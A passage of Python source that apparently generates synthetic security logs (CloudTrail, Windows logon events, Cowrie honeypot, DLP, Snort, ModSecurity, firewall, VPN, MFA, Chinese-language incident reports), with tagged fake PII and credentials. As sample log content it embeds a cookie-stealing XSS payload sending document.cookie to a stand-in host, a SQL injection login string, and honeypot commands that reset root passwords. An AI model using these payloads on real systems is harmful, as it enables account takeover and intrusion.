                                          "longitude": round(c.r.uniform(-120, 140), 5)}}}
    return c.jd(ev, sep=(", ", ": ")) if c.r.random() < 0.3 else c.jd(ev)


@tpl("cloudtrail_console_login")
def t_ct_login(c):
    acct = c.digits(12, True)
    ip = c.S(c.ip_client(v6=0.1, priv=0.0), "IP_ADDRESS")
    k = c.r.random()
    ok = c.r.random() < 0.4
    if k < 0.6:
        p = c.person("cnwest")
        ui = {"type": "IAMUser", "principalId": "AIDA" + c.alnum(17, string.ascii_uppercase + string.digits),
              "arn": f"arn:aws:iam::{acct}:user/{c.S(p.login, 'PERSON')}", "accountId": c.D(acct, "account_id"),
              "userName": c.S(p.login, "PERSON")}
    elif k < 0.8:
        ui = {"type": "IAMUser", "accountId": c.D(acct, "account_id"), "accountId_": None,
              "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"}
        del ui["accountId_"]
        ok = False
    else:
        ui = {"type": "Root", "principalId": acct, "arn": f"arn:aws:iam::{acct}:root", "accountId": c.D(acct, "account_id")}
    ev = {"eventVersion": "1.09", "userIdentity": ui, "eventTime": c.iso(0), "eventSource": "signin.amazonaws.com",
          "eventName": "ConsoleLogin", "awsRegion": c.ch(["us-east-1", "ap-northeast-1", "eu-central-1"]),
          "sourceIPAddress": ip, "userAgent": c.ch(UA[:3]), "requestParameters": None,
          "responseElements": {"ConsoleLogin": "Success" if ok else "Failure"},
          "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
                                  "MobileVersion": "No", "MFAUsed": c.ch(["Yes", "No"])}}
    if not ok:
        ev["errorMessage"] = "Failed authentication"
    ev.update({"eventID": c.D(c.uuid(), "uuid"), "readOnly": False, "eventType": "AwsConsoleSignIn",
               "managementEvent": True, "recipientAccountId": acct, "eventCategory": "Management"})
    return c.jd(ev)


@tpl("windows_4625_xml")
def t_win4625(c):
    p = c.person("cnwest")
    ok = c.r.random() < 0.3
    eid = 4624 if ok else 4625
    spray = c.r.random() < 0.2
    user = c.D(c.ch(["administrator", "Administrator", "admin", "svc-sql"]), "system_account", "xml") if spray \
        else c.S(p.login, "PERSON", "xml")
    dom = c.ch(["CORP", "ACME", "HQ"])
    t = c.dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{c.dt.microsecond:06d}0Z"
    data = [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user),
            ("TargetDomainName", dom)]
    if not ok:
        data += [("Status", "0xc000006d"), ("FailureReason", "%%2313"), ("SubStatus", c.ch(["0xc000006a", "0xc0000064", "0xc0000234"]))]
    lt = c.ch(["3", "10", "2"])
    data += [("LogonType", lt), ("LogonProcessName", "NtLmSsp " if lt == "3" else "User32 "),
             ("AuthenticationPackageName", "NTLM" if lt == "3" else "Negotiate"),
             ("WorkstationName", c.D(c.ws_host(), "hostname")), ("TransmittedServices", "-"),
             ("LmPackageName", "-"), ("KeyLength", "0"), ("ProcessId", "0x0"), ("ProcessName", "-"),
             ("IpAddress", c.S(c.ip_client(v6=0.05, priv=0.6), "IP_ADDRESS")), ("IpPort", str(c.port()))]
    ed = "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in data)
    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>"
            f"<EventID>{eid}</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode>"
            f"<Keywords>{'0x8020000000000000' if ok else '0x8010000000000000'}</Keywords>"
            f"<TimeCreated SystemTime='{t}'/><EventRecordID>{c.digits(8, True)}</EventRecordID>"
            "<Correlation/><Execution ProcessID='" + str(c.r.choice([640, 708, 772])) + "' ThreadID='" + str(c.r.randint(100, 9000)) + "'/>"
            f"<Channel>Security</Channel><Computer>{c.D(c.ch(['DC01', 'DC02', 'ADFS01']) + '.' + dom.lower() + '.local', 'hostname')}</Computer>"
            f"<Security/></System><EventData>{ed}</EventData></Event>")


@tpl("cowrie_json")
def t_cowrie(c):
    sensor = c.D(c.ch(["hp-sgp-01", "cowrie-fra-02", "honeypot-sz-01", "hp-ams-03"]), "hostname")
    src = c.S(c.ip_pub() if c.r.random() < 0.9 else c.ip6(), "IP_ADDRESS")
    sess = c.hexs(12)
    ts = c.iso(6)
    k = c.r.randrange(3)
    if k < 2:
        u = c.ch(TRIED_USERS)
        pw = c.ch(WEAK_PASSWORDS) if c.r.random() < 0.7 else c.password(hard=True)
        res = "failed" if k == 0 else "succeeded"
        ev = {"eventid": f"cowrie.login.{'failed' if k == 0 else 'success'}",
              "username": c.D(u, "system_account", "json"), "password": c.S(pw, "CREDENTIAL", "json"),
              "message": f"login attempt [{c.D(u, 'system_account', 'json')}/{c.S(pw, 'CREDENTIAL', 'json')}] {res}",
              "sensor": sensor, "timestamp": ts, "src_ip": src, "session": sess}
    else:
        pw = c.password()
        a, b = c.ch([('echo "root:', '"|chpasswd|bash'), ("echo '", "' | passwd --stdin root"),
                     ("useradd -m -s /bin/bash sysadm; echo 'sysadm:", "' | chpasswd")])
        ev = {"eventid": "cowrie.command.input", "input": a + c.S(pw, "CREDENTIAL", "json") + b,
              "message": "CMD: " + a + c.S(pw, "CREDENTIAL", "json") + b, "sensor": sensor,
              "timestamp": ts, "src_ip": src, "session": sess}
    return c.jd(ev)


@tpl("symantec_dlp_card")
def t_dlp_card(c):
    p = c.person("cnwest")
    holder = c.person()
    dom = c.ch(["CORP", "ACME"])
    matched = c.pick(
        lambda: "order_no=" + c.D(c.luhn16(c.ch("45")), "order_id") + ",card_no=" + c.S(c.card(), "CREDIT_CARD")
        + ",exp=0" + str(c.r.randint(1, 9)) + "/2" + str(c.r.randint(7, 9)),
        lambda: "Cardholder: " + c.S(holder.full, "PERSON") + " | PAN " + c.S(c.card(), "CREDIT_CARD") + " | CVV ***",
        lambda: "Employee: " + c.S(holder.full, "PERSON") + ", SSN: " + c.S(c.ssn(), "US_SSN") + ", W-2 box 1: " + str(c.r.randint(40, 190)) + ",000.00",
    )
    fields = [f"incident_id={c.D(c.digits(7, True), 'event_id')}",
              "policy=" + c.ch(["PCI DSS - Credit Card Numbers", "PCI - Payment Card Data", "客户支付信息外发"]),
              "rule=" + c.ch(["Credit Card Number Data Identifier", "Card Number + Name Keyword"]),
              "severity=" + c.ch(["High", "Medium"]), "status=New",
              f"sender={dom}\\{c.S(p.login, 'PERSON')}",
              "recipients=" + c.ch(["https://pastebin.com/api/api_post.php", "https://www.dropbox.com/upload",
                                     "https://wx.mail.qq.com/compose"]),
              "protocol=" + c.ch(["HTTPS", "HTTP", "Endpoint Removable Storage"]),
              f"match_count={c.r.randint(1, 40)}", "blocked=" + c.ch(["Blocked", "Passed", "Quarantined"]),
              f"endpoint={c.D(c.ws_host(), 'hostname')}", f'matched="{matched}"']
    return f"<134>{c.syslog_ts()} dlp-enforce01 SymantecDLP: " + "|".join(fields)


@tpl("zh_incident_report")
def t_zh_report(c):
    p = c.person("zh")
    d = c.local()
    date = f"{d.year}年{d.month}月{d.day}日{d:%H:%M}"
    k = c.r.randrange(3)
    if k == 0:
        return (f"经排查，员工{c.S(p.full, 'PERSON')}的账号{c.S(c.email(p, corp=c.corp, free=False), 'EMAIL_ADDRESS')}于{date}"
                f"从IP {c.S(c.ip_pub(), 'IP_ADDRESS')}登录{c.ch(['VPN', '邮箱', 'OA系统', '企业微信'])}，登录地显示为"
                f"{c.D(c.ch(PLACES_ZH[9:]), 'place')}，与其常用登录地不符，判定为账号失陷，已强制下线并重置密码。")
    if k == 1:
        return (f"经溯源分析，攻击者IP {c.S(c.ip_pub(), 'IP_ADDRESS')} 于{date}利用弱口令爆破成功登录"
                f"{c.D(c.srv_host(), 'hostname')}（{c.D(c.ip_server(0.0), 'server_ip')}），使用账号"
                f"{c.S(p.login, 'PERSON')}，随后下载了/tmp/.x/kworker并建立持久化，建议全网封禁该IP。")
    dept = c.ch(["财务部", "人力资源部", "研发中心", "市场部", "法务部"])
    return (f"经排查，{dept}{c.S(p.full, 'PERSON')}的办公终端（IP {c.S(c.ip_priv(), 'IP_ADDRESS')}，主机名"
            f"{c.D(c.ws_host(), 'hostname')}）于{date}点击钓鱼链接并在仿冒页面输入了OA账号密码，"
            f"现已隔离终端并重置密码，工单号{c.D(c.ticket(), 'ticket_id')}。")


@tpl("zh_data_leak_bulletin")
def t_zh_leak(c):
    p = c.person("zh")
    addr = c.fk["zh_CN"].address()
    n = c.r.randint(2, 90)
    head = c.ch(["【数据泄露事件通报】", "【安全通报】", "【紧急】数据泄露预警："])
    body = c.pick(
        lambda: f"监测发现某暗网论坛出售我司客户数据约{n}万条，样本示例：姓名 {c.S(p.full, 'PERSON')}，身份证号 "
        f"{c.S(c.cn_id(), 'CN_RESIDENT_ID')}，手机 {c.S(c.cn_mobile(), 'PHONE_NUMBER')}，住址 {addr}。",
        lambda: f"Telegram 群组（卖家昵称“{c.D(c.ch(PUBLIC_FIGURES_ZH), 'public_figure')}”）流出疑似我司会员信息{n}万条，批次号"
        f"{c.D(c.bad_serial18(), 'serial_number')}，样本：{c.S(p.full, 'PERSON')}|{c.S(c.cn_mobile(0), 'PHONE_NUMBER')}|"
        f"{c.S(c.cn_id(), 'CN_RESIDENT_ID')}|{addr}。",
    )
    tail = c.ch(["请各单位立即排查接口访问日志。", "已上报监管并启动应急预案。"])
    return head + body + tail


@tpl("zh_situational_awareness")
def t_zh_sa(c):
    victim_ws = c.r.random() < 0.35
    atk = c.ip_pub() if c.r.random() < 0.9 else c.ip6()
    name = c.ch(["SSH暴力破解", "RDP暴力破解成功", "Webshell上传", "挖矿木马外联", "Log4j2远程代码执行", "疑似APT组织C2通信"])
    lv = c.ch(["高危", "中危", "严重"])
    parts = [f"【态势感知】告警ID:{c.D(c.alert_id11(), 'event_id')}", f"告警名称:{name}", f"危险等级:{lv}",
             f"攻击IP:{c.S(atk, 'IP_ADDRESS')}({c.ch(PLACES_ZH[8:])})"]
    if victim_ws:
        parts.append(f"受害IP:{c.S(c.ip_priv(), 'IP_ADDRESS')}")
        parts.append(f"受害资产:{c.D(c.ws_host(), 'hostname')}")
    else:
        parts.append(f"受害IP:{c.D(c.ip_server(0.2), 'server_ip')}")
        parts.append(f"受害资产:{c.D(c.srv_host(), 'hostname')}")
    if c.r.random() < 0.4:
        parts.append(f"已通知:{c.S(c.person('zh').full, 'PERSON')}{c.ch(['主任', '经理', '总监'])}")
    parts += [f"首次发现:{c.cn_ts()}", f"攻击次数:{c.r.randint(3, 30000)}",
              "处置建议:" + c.ch(["封禁攻击IP并排查主机", "立即隔离主机", "核查是否存在弱口令"])]
    return c.ch([" ", "，", " | "]).join(parts)


@tpl("zh_police_report")
def t_zh_police(c):
    p = c.person("zh")
    d = c.local()
    sex = c.ch(["先生", "女士"])
    case = c.pick(
        lambda: f"称其在仿冒“{c.ch(['国家反诈中心', '某银行', '某快递'])}”网站输入银行卡号{c.S(c.card('unionpay'), 'CREDIT_CARD')}"
        f"及验证码后被盗刷{c.r.randint(2, 90)}000元",
        lambda: f"称其身份证号{c.S(c.cn_id(), 'CN_RESIDENT_ID')}被冒用注册网络贷款",
        lambda: f"称有人冒充其领导“{c.S(c.person('zh').surname, 'PERSON')}总”添加其微信并诱导转账",
    )
    return (f"【网安警情】警情编号{c.D('JQ' + d.strftime('%Y%m%d') + c.digits(5), 'ticket_id')}：{d.month}月{d.day}日{d:%H时%M分}，"
            f"报警人{c.S(p.surname, 'PERSON')}{sex}（联系电话：{c.S(c.cn_mobile(), 'PHONE_NUMBER')}）{case}，"
            f"已移交{c.ch(['网安大队', '反诈中心', '刑侦支队'])}处置。")


@tpl("jumpserver_command_audit")
def t_jumpserver(c):
    p = c.person("zh")
    srv = c.ip_server(0.0)
    host = c.ch(["db-prod-01", "redis-prod-02", "es-node-03", "k8s-master-01", "mysql-bak-01"])
    pw = c.password()
    a, b = c.ch([("mysql -h 127.0.0.1 -uroot -p'", "' -e 'show databases;'"), ("redis-cli -a '", "' info keyspace"),
                 ("curl -u elastic:", " http://127.0.0.1:9200/_cat/indices"), ("sshpass -p '", "' scp /data/backup.sql root@backup01:/data/")])
    ev = {"user": f"{c.S(p.full, 'PERSON', 'json')}({c.S(p.login, 'PERSON', 'json')})",
          "asset": f"{host}({c.D(srv, 'server_ip')})", "account": c.ch(["root", "admin", "app"]),
          "input": a + c.S(pw, "CREDENTIAL", "json") + b, "output": "", "risk_level": c.ch([0, 0, 4, 5]),
          "session": c.D(c.uuid(), "uuid"), "org_id": "00000000-0000-0000-0000-000000000002",
          "timestamp": c.D(c.epoch(), "timestamp_digits", num=True)}
    return c.jd(ev)


SNORT_IN = [("1:2008186:9", "ET SCAN DirBuster Web App Scan in Progress", "Web Application Attack", 1, 80),
            ("1:2402000:6543", "ET DROP Dshield Block Listed Source", "Misc Attack", 2, 443),
            ("1:2023753:3", "ET SCAN MS Terminal Server Traffic on Non-standard Port", "Attempted Information Leak", 1, 33890),
            ("1:2100498:7", "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, 8080),
            ("1:2001219:20", "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, 22)]
SNORT_OUT = [("1:2025275:2", "ET TROJAN Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1, 443),
             ("1:2018959:4", "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", 1, 80),
             ("1:2027758:2", "ET INFO DNS Query for Suspicious .tk Domain", "Potentially Bad Traffic", 2, 53)]


@tpl("snort_fast_alert")
def t_snort(c):
    d = c.local()
    ts = d.strftime("%m/%d-%H:%M:%S.") + f"{d.microsecond:06d}"
    if c.r.random() < 0.6:
        gsr, msg, cls, pri, dport = c.ch(SNORT_IN)
        src, dst = c.S(c.ip_pub(), "IP_ADDRESS"), c.D(c.ip_server(0.3), "server_ip")
    else:
        gsr, msg, cls, pri, dport = c.ch(SNORT_OUT)
        src, dst = c.S(c.ip_priv(), "IP_ADDRESS"), c.S(c.ip_pub(), "IP_ADDRESS")
    g, sid, rev = gsr.split(":")
    proto = "UDP" if dport == 53 else "TCP"
    return (f"{ts}  [**] [{g}:{c.D(sid, 'signature_id')}:{rev}] {msg} [**] [Classification: {cls}] "
            f"[Priority: {pri}] {{{proto}}} {src}:{c.port()} -> {dst}:{dport}")


@tpl("modsecurity_json_audit")
def t_modsec(c):
    d = c.local()
    host = c.ch(["www.", "shop.", "portal."]) + c.corp
    hdr = {"Host": host, "User-Agent": c.ch(UA), "Content-Type": "application/x-www-form-urlencoded"}
    if c.r.random() < 0.5:
        body = ("username=" + quote_plus("admin' or '1'='1") + "&password=" + c.S(c.password(), "CREDENTIAL", ("form", "json")))
        rid, msg, fn, data = ("942100", "SQL Injection Attack Detected via libinjection",
                              "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
                              "Matched Data: s&sos found within ARGS:username: admin' or '1'='1")
        uri = "/login.php"
    else:
        p = c.person()
        body = ("email=" + c.S(c.email(p), "EMAIL_ADDRESS", ("form", "json")) + "&comment=" +
                quote_plus("<script>document.location='//x.tk/?c='+document.cookie</script>"))
        hdr["Cookie"] = "PHPSESSID=" + c.S(c.alnum(26, string.ascii_lowercase + string.digits), "CREDENTIAL", "json")
        rid, msg, fn, data = ("941100", "XSS Attack Detected via libinjection",
                              "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                              "Matched Data: XSS data found within ARGS:comment: <script>document.location='//x.tk/?c='+document.cookie</script>")
        uri = "/feedback/submit"
    ev = {"transaction": {
        "client_ip": c.S(c.ip_client(v6=0.1, priv=0.0), "IP_ADDRESS"),
        "time_stamp": f"{DAYS[d.weekday()]} {MONTHS[d.month - 1]} {d.day:2d} {d:%H:%M:%S} {d.year}",
        "server_id": c.sha1(), "client_port": c.port(), "host_ip": c.D(c.ip_server(0.2), "server_ip"),
        "host_port": 443, "unique_id": c.D(f"{c.epoch()}{c.digits(2)}.{c.digits(6)}", "event_id"),
        "request": {"method": "POST", "http_version": 1.1, "uri": uri, "body": body, "headers": hdr},
        "response": {"http_code": 403, "headers": {"Server": "nginx", "Content-Type": "text/html"}},
        "producer": {"modsecurity": "ModSecurity v3.0.12 (Linux)", "connector": "ModSecurity-nginx v1.0.3",
                     "secrules_engine": "Enabled", "components": ["OWASP_CRS/4.8.0\""]},
        "messages": [{"message": msg, "details": {
            "match": "detected via libinjection.", "reference": "v" + str(c.r.randint(5, 90)) + ",27",
            "ruleId": c.D(rid, "rule_id"), "file": "/etc/nginx/modsec/coreruleset/rules/" + fn,
            "lineNumber": str(c.r.randint(40, 200)), "data": data, "severity": "2", "ver": "OWASP_CRS/4.8.0",
            "rev": "", "tags": ["application-multi", "language-multi", "platform-multi", "paranoia-level/1"],
            "maturity": "0", "accuracy": "0"}}]}}
    return c.jd(ev)


@tpl("paloalto_traffic_csv")
def t_pan_traffic(c):
    p = c.person("cnwest")
    d = c.local().strftime("%Y/%m/%d %H:%M:%S")
    serial = "0" + c.digits(11)
    dst = c.ip_pub()
    app, cat, dport = c.ch([("ssl", "computer-and-internet-info", 443), ("web-browsing", "online-storage-and-backup", 80),
                            ("mega", "online-storage-and-backup", 443), ("tor", "proxy-avoidance-and-anonymizers", 9001),
                            ("ms-rdp", "any", 3389)])
    action = c.ch(["allow", "deny", "drop", "reset-both"])
    f = ["1", d, c.D(serial, "serial_number"), "TRAFFIC", c.ch(["end", "drop", "deny"]), "2561", d,
         c.S(c.ip_priv(), "IP_ADDRESS"), dst, c.D(c.ip_pub(), "server_ip"), dst,
         c.ch(["Allow-Web", "Block-Tor", "Outbound-Default"]),
         c.ch(["corp", "acme", "hq"]) + "\\" + c.S(p.login, "PERSON"), "", app, "vsys1", "trust", "untrust",
         "ethernet1/2", "ethernet1/1", "Log-Fwd", d, str(c.r.randint(10000, 999999)), "1", str(c.port()), str(dport),
         str(c.port()), str(dport), "0x400053", "tcp", action, str(c.r.randint(100, 90000)),
         str(c.r.randint(100, 9000)), str(c.r.randint(100, 80000)), str(c.r.randint(2, 90)), d,
         str(c.r.randint(0, 900)), cat, "0", c.digits(10, True), "0x0", "10.0.0.0-10.255.255.255",
         c.ch(["United States", "Germany", "Russian Federation", "Netherlands"]), "0", str(c.r.randint(1, 40)),
         str(c.r.randint(0, 40)), c.ch(["tcp-fin", "policy-deny", "aged-out", "tcp-rst-from-client"]),
         "0", "0", "0", "0", "", "PA-3220", "from-policy", "", "", "0", "", "0", "", "N/A", "0", "0", "0", "0"]
    return f"<14>{c.syslog_ts()} PA-3220 " + ",".join(f)


@tpl("pfsense_filterlog")
def t_pfsense(c):
    inbound = c.r.random() < 0.65
    if inbound:
        src, dst = c.S(c.ip_pub(), "IP_ADDRESS"), c.D(c.ip_server(0.2), "server_ip")
        dport = c.ch([22, 23, 445, 3389, 5900, 6379, 1433])
    else:
        src, dst = c.S(c.ip_priv(), "IP_ADDRESS"), c.D(c.ip_pub(), "server_ip")
        dport = c.ch([4444, 6667, 8443, 9001, 25])
    head = ["5", "", "", c.D(c.ch(["1000000103", "1000000104", "1770001466", "1000002620"]), "rule_id"),
            c.ch(["igb0", "igb1", "em0", "vtnet0"]), "match", c.ch(["block", "block", "pass"]),
            "in" if inbound else "out", "4", "0x0", "", str(c.r.randint(32, 128)), str(c.r.randint(1, 65535)),
            "0", c.ch(["DF", "none"])]
    if c.r.random() < 0.8:
        tail = ["6", "tcp", "60", src, dst, str(c.port()), str(dport), "0", "S", c.digits(9, True), "", "64240",
                "", "mss;sackOK;TS;nop;wscale"]
    else:
        dport = c.ch([53, 123, 161, 1900])
        tail = ["17", "udp", str(c.r.randint(40, 400)), src, dst, str(c.port()), str(dport), str(c.r.randint(8, 380))]
    msg = ",".join(head + tail)
    return f"<134>1 {c.iso(6, z=False, tz=8)} pfSense.{c.corp} filterlog {c.r.randint(10000, 99999)} - - {msg}"


@tpl("cisco_asa_anyconnect")
def t_asa(c):
    p = c.person("cnwest")
    grp = c.ch(["GP-Staff", "AnyConnect-Users", "VPN_Contractors", "DfltGrpPolicy"])
    u = c.S(p.login, "PERSON")
    ip = c.S(c.ip_client(v6=0.1, priv=0.0), "IP_ADDRESS")
    k = c.r.randrange(5)
    if k == 0:
        msg = f"%ASA-6-113039: Group <{grp}> User <{u}> IP <{ip}> AnyConnect parent session started."
    elif k == 1:
        msg = (f"%ASA-6-722051: Group <{grp}> User <{u}> IP <{ip}> IPv4 Address <{c.S(c.ip_priv(), 'IP_ADDRESS')}> "
               f"IPv6 address <::> assigned to session")
    elif k == 2:
        msg = (f"%ASA-4-113019: Group = {grp}, Username = {u}, IP = {ip}, Session disconnected. Session Type: "
               f"AnyConnect-Parent, Duration: {c.r.randint(0, 9)}h:{c.r.randint(0, 59):02d}m:{c.r.randint(0, 59):02d}s, "
               f"Bytes xmt: {c.r.randint(10 ** 4, 10 ** 9)}, Bytes rcv: {c.r.randint(10 ** 4, 10 ** 8)}, "
               f"Reason: {c.ch(['Idle Timeout', 'User Requested', 'Max time exceeded', 'Port Error'])}")
    elif k == 3:
        msg = (f"%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = "
               f"{c.D(c.ip_server(0.0), 'server_ip')} : user = {u} : user IP = {ip}")
    else:
        msg = f"%ASA-6-716001: Group <{grp}> User <{u}> IP <{ip}> WebVPN session started."
    d = c.local()
    return f"<166>{MONTHS[d.month - 1]} {d.day:02d} {d.year} {d:%H:%M:%S} {c.D(c.ch(['vpn-asa01', 'asa-hq-fw', 'ASA5516-DMZ']), 'hostname')} : {msg}"


@tpl("globalprotect_system_log")
def t_gp(c):
    p = c.person("cnwest")
    d = c.local().strftime("%Y/%m/%d %H:%M:%S")
    dom = c.ch(["corp", "acme", ""])
    user = (dom + "\\" if dom else "") + c.S(p.login, "PERSON", "csv")
    osv = c.ch(["Microsoft Windows 11 Pro , 64-bit", "Apple Mac OS X 14.6.1", "Microsoft Windows 10 Enterprise , 64-bit"])
    k = c.r.randrange(3)
    if k == 0:
        eid = "globalprotectgateway-auth-succ"
        desc = (f"GlobalProtect gateway user authentication succeeded. Login from: {c.S(c.ip_pub(), 'IP_ADDRESS')}, "
                f"Source region: {c.ch(['US', 'CN', 'DE', 'SG'])}, User name: {user}, Auth type: profile, Client OS version: {osv}.")
        sev = "informational"
    elif k == 1:
        eid = "globalprotectgateway-auth-fail"
        desc = (f"GlobalProtect gateway user authentication failed. Login from: {c.S(c.ip_pub(), 'IP_ADDRESS')}, "
                f"Source region: {c.ch(['RU', 'CN', 'NL', 'US'])}, User name: {user}, Client OS version: {osv}, "
                f"Reason: Authentication failed: Invalid username or password, Auth type: profile.")
        sev = "medium"
    else:
        eid = "globalprotectgateway-config-succ"
        desc = (f"GlobalProtect gateway client configuration generated. User name: {user}, Private IP: "
                f"{c.S(c.ip_priv(), 'IP_ADDRESS')}, Client version: {c.D(f'6.2.{c.r.randint(0, 6)}-{c.r.randint(10, 400)}', 'version')}, "
                f"Device name: {c.D(c.ws_host(), 'hostname')}, Client OS version: {osv}, VPN type: Device Level VPN.")
        sev = "informational"
    f = ["1", d, c.D("0" + c.digits(11), "serial_number"), "SYSTEM", "globalprotect", "0", d, "", eid,
         "GP-Gateway-N", "0", "0", "general", sev, f'"{desc}"', c.digits(10, True), "0x0", "0", "0", "0", "0", "", "PA-VM"]
    return f"<14>{c.syslog_ts()} PA-VM " + ",".join(f)


@tpl("auth0_log")
def t_auth0(c):
    p = c.person()
    email = c.S(c.email(p), "EMAIL_ADDRESS", "json")
    ip = c.S(c.ip_client(v6=0.2, priv=0.0), "IP_ADDRESS")
    k = c.r.randrange(4)
    ev = {"date": c.iso(3)}
    if k == 0:
        ev.update({"type": "fp", "description": "Wrong email or password."})
    elif k == 1:
        ev.update({"type": "s", "description": "Successful login"})
    elif k == 2:
        ev.update({"type": "limit_wc", "description": "Too many failed login attempts from this IP; account blocked"})
    else:
        ev.update({"type": "gd_send_sms", "description": "Guardian - SMS sent"})
    ev.update({"connection": "Username-Password-Authentication", "connection_id": "con_" + c.alnum(16),
               "client_id": c.alnum(32), "client_name": c.ch(["Customer Portal", "Mobile App", "Partner Hub"]),
               "ip": ip, "user_agent": c.ch(["Chrome 131.0.0 / Windows 10.0.0", "Mobile Safari 18.1.0 / iOS 18.1.0"]),
               "details": {"error": {"message": ev["description"]}} if k in (0, 2) else
               ({"to": c.S(c.intl_phone(style="E164"), "PHONE_NUMBER")} if k == 3 else {"prompts": [], "stats": {"loginsCount": c.r.randint(1, 400)}}),
               "user_id": c.D("auth0|" + c.hexs(24), "user_id"), "user_name": email,
               "strategy": "auth0", "strategy_type": "database",
               "log_id": c.D("900" + c.dt.strftime("%Y%m%d%H%M%S") + c.digits(36), "event_id")})
    return c.jd(ev)


@tpl("duo_auth_log")
def t_duo(c):
    p = c.person("cnwest")
    city, state, country, _ = c.ch(CITIES_EN)
    res, reason, factor = c.ch([("success", "user_approved", "duo_push"), ("denied", "user_mistake", "duo_push"),
                                ("fraud", "user_marked_fraud", "duo_push"), ("denied", "no_response", "phone_call"),
                                ("success", "valid_passcode", "sms_passcode")])
    ph = c.intl_phone(region=c.ch(["US", "GB", "DE", "SG", "JP"]), style=c.ch(["INTERNATIONAL", "NATIONAL", "E164"]))
    ev = {"access_device": {"browser": "Chrome", "browser_version": "131.0.6778.86", "hostname": None,
                            "ip": c.S(c.ip_client(v6=0.1, priv=0.1), "IP_ADDRESS"),
                            "location": {"city": city, "country": country, "state": state},
                            "os": "Windows", "os_version": "11"},
          "application": {"key": "DI" + c.alnum(18, string.ascii_uppercase + string.digits),
                          "name": c.ch(["Cisco ASA SSL VPN", "Microsoft RDP", "Okta", "Linux SSH"])},
          "auth_device": {"ip": None, "location": {"city": None, "country": None, "state": None},
                          "name": c.ch(["iPhone", "Pixel 8", "Galaxy S24"]) + " (" + c.S(ph, "PHONE_NUMBER", "json") + ")"},
          "event_type": "authentication", "factor": factor, "reason": reason, "result": res,
          "timestamp": c.D(c.epoch(), "timestamp_digits", num=True), "isotimestamp": c.iso(6, z=False),
          "txid": c.D(c.uuid(), "uuid"),
          "user": {"groups": ["VPN Users"], "key": "DU" + c.alnum(18, string.ascii_uppercase + string.digits),
                   "name": c.S(p.login, "PERSON")}}
    return c.jd(ev)


@tpl("gworkspace_login_audit")
def t_gws(c):
    p = c.person(c.ch(["west", "zh", "ja", "any"]))
    name, params = c.ch([
        ("login_failure", [{"name": "login_type", "value": "google_password"},
                           {"name": "login_failure_type", "value": "login_failure_invalid_password"},
                           {"name": "is_suspicious", "boolValue": True}]),
        ("login_success", [{"name": "login_type", "value": "google_password"},
                           {"name": "login_challenge_method", "multiValue": ["password", "google_authenticator"]},
                           {"name": "is_suspicious", "boolValue": False}]),
        ("suspicious_login", [{"name": "login_type", "value": "google_password"}]),
        ("login_challenge", [{"name": "login_challenge_method", "value": "idv_preregistered_phone"},
                             {"name": "login_challenge_status", "value": "Challenge Failed"}]),
    ])
    email = c.S(c.email(p, corp=c.corp, free=False), "EMAIL_ADDRESS")
    uq = c.ch(["-", ""]) + c.digits(19, True)
    ev = {"kind": "admin#reports#activity",
          "id": {"time": c.iso(3), "uniqueQualifier": c.D(uq, "event_id"), "applicationName": "login",
                 "customerId": "C0" + c.alnum(7, string.ascii_lowercase + string.digits)},
          "etag": '"' + c.alnum(27, string.ascii_letters + string.digits + "-_") + '"',
          "actor": {"email": email, "profileId": c.D("1" + c.digits(20), "user_id")},
          "ipAddress": c.S(c.ip_client(v6=0.25, priv=0.0), "IP_ADDRESS"),
          "events": [{"type": "account_warning" if name == "suspicious_login" else "login", "name": name, "parameters": params}]}
    return c.jd(ev)


@tpl("cloudtrail_assumerole")
def t_ct_assume(c):
    acct = c.digits(12, True)
    svc = c.ch(["svc-ci-deploy", "svc-terraform", "jenkins", "deploy"])
    sess = c.ch(["terraform", "gitlab-runner", "botocore-session", "aws-go-sdk"]) + "-" + str(c.epoch())
    role = c.ch(["OrganizationAccountAccessRole", "ProdAdmin", "ReadOnlyAudit", "eks-node-admin"])
    exp = c.dt + timedelta(hours=1)
    ev = {"eventVersion": "1.08",
          "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + c.alnum(17, string.ascii_uppercase + string.digits),
                           "arn": f"arn:aws:iam::{acct}:user/{svc}", "accountId": c.D(acct, "account_id"),
                           "accessKeyId": c.S(c.aws_key_id(), "CREDENTIAL"), "userName": c.D(svc, "system_account")},
          "eventTime": c.iso(0), "eventSource": "sts.amazonaws.com", "eventName": "AssumeRole",
          "awsRegion": c.ch(["us-east-1", "ap-southeast-1", "eu-west-1"]),
          "sourceIPAddress": c.S(c.ip_pub(), "IP_ADDRESS"),
          "userAgent": c.ch(["aws-cli/2.22.12 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.12.6",
                             "Boto3/1.35.76 md/Botocore#1.35.76 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.7"]),
          "requestParameters": {"roleArn": f"arn:aws:iam::{acct}:role/{role}", "roleSessionName": sess, "durationSeconds": 3600},
          "responseElements": {"credentials": {"accessKeyId": c.S(c.aws_key_id(temp=True), "CREDENTIAL"),
                                               "sessionToken": "HIDDEN_DUE_TO_SECURITY_REASONS",
                                               "expiration": f"{MONTHS[exp.month - 1]} {exp.day}, {exp.year}, {exp:%I:%M:%S %p}"},
                               "assumedRoleUser": {"assumedRoleId": "AROA" + c.alnum(17, string.ascii_uppercase + string.digits) + ":" + sess,
                                                   "arn": f"arn:aws:sts::{acct}:assumed-role/{role}/{sess}"}},
